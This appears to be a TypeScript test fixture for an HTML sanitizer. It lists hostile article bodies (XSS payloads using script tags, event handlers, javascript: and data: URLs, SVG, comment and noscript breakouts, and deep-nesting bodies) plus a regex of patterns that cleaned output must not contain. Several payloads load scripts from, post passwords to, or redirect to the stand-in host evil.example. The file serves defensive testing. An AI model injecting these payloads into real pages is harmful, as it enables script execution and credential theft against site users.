import { cleanedArticle, type HostileFile } from './hostile-file.ts';

const BODIES: Record<string, string> = {
  script: '<script>alert(1)</script><p>Testo.</p><SCRIPT src=//evil.example/x.js></SCRIPT>',
  'broken-script': '<scr<script>ipt>alert(1)</scr</script>ipt><p>Testo.</p>',
  handlers: '<p onclick="alert(1)" onmouseover=alert(1)>Testo.</p><img src=x onerror=alert(1)>',
  addresses: '<p>Testo. <a href="javascript:alert(1)">a</a> <a href=" java&#9;script:alert(1)">b</a></p>',
  'more-addresses':
    '<p>Testo. <a href="vbscript:x">a</a> <a href="data:text/html,<script>x</script>">b</a></p>',
  drawing:
    '<svg onload=alert(1)><script>alert(1)</script><p>Testo.</p></svg><math><mi xlink:href="javascript:x">y</mi></math><p>Testo.</p>',
  frames:
    '<iframe src="https://evil.example" srcdoc="<script>x</script>"></iframe><object data=x></object><embed src=x><p>Testo.</p>',
  forms:
    '<form action="https://evil.example"><input name=password><button formaction="javascript:x">Invia</button></form><p>Testo.</p>',
  head: '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example"><link rel=stylesheet href=x><p>Testo.</p>',
  styles:
    '<style>@import "https://evil.example";</style><p style="background:url(https://evil.example)">Testo.</p>',
  comments: '<!--><script>alert(1)</script>--><p>Testo.</p><!-- <p> --!><img src=x onerror=alert(1)>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Testo.</p>',
  templates: '<template><script>x</script></template><xmp><p>x</p></xmp><p>Testo.</p>',
  'deep-html': `${'<div>'.repeat(19_000)}<p>Testo.</p>`,
  'open-tags': `<p>Testo.</p>${'<b><i>'.repeat(9000)}`,
  'half-tags': `<p>Testo.</p>${'<a href="'.repeat(19_000)}`,
};

/** Bodies with content that would be executed in a browser. */
export const ACTIVE_CONTENT: HostileFile[] = Object.entries(BODIES).map(([name, body]) =>
  cleanedArticle(`html/${name}.json`, { body }),
);

/** Patterns that no cleaned body may contain. */
export const ACTIVE =
  /<\/?(?:script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|img|template|xmp|noscript)\b|\son\w+\s*=|\sstyle\s*=|(?:javascript|vbscript|data):/i;
